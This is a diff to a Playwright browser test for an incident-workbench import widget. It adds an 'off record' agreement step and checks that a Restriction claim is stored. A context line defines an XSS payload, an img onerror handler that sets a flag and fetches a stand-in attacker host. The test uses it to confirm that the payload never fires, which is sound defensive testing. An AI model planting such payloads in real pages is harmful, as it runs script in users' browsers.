@@ -7,6 +7,7 @@ import pytest
 from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import Browser, expect
 
+from incident_workbench.model.claims import Restriction
 from incident_workbench.store import Store
 from tests.browser.lab import Lab, serving
 
@@ -14,7 +15,7 @@ SHOW = """\
 from incident_workbench import Store
 from incident_workbench.widgets import Import
 store = Store.open("night")
-form = Import(store.import_file, by="kim")
+form = Import(store.import_file, by="kim", sit=store.sit)
 form"""
 HOSTILE = "<img src=x onerror=\"window.__fired=1;fetch('http://evil.invalid/x')\">"
 
@@ -46,12 +47,14 @@ def test_a_transcript_is_looked_at_and_then_brought_in_by_keyboard(lab: Lab, tmp
         page.get_by_label("Zone").fill("Europe/Paris")
         page.get_by_label("Zone").press("Tab")
         expect(page.get_by_role("button", name="Import")).to_be_disabled()
+        page.get_by_label("Agreed").select_option("off record")
         page.get_by_role("button", name="Preview").press("Enter")
         expect(page.get_by_role("button", name="Import")).to_be_enabled(timeout=20_000)
         found = Axe().run(page, context=".iw-import").response["violations"]
         assert [rule["id"] for rule in found if rule["impact"] in ("serious", "critical")] == []
         page.get_by_role("button", name="Import").press("Enter")
-        expect(shown).to_contain_text("imported", timeout=20_000)
+        expect(shown).to_contain_text("imported, off record", timeout=20_000)
+        assert [claim.what for claim in store.load().of_kind(Restriction)] == ["off_record"]
         notebook.run(1)
         assert notebook.value(1).endswith("(2, 2)")
         assert page.evaluate("window.__fired") is None
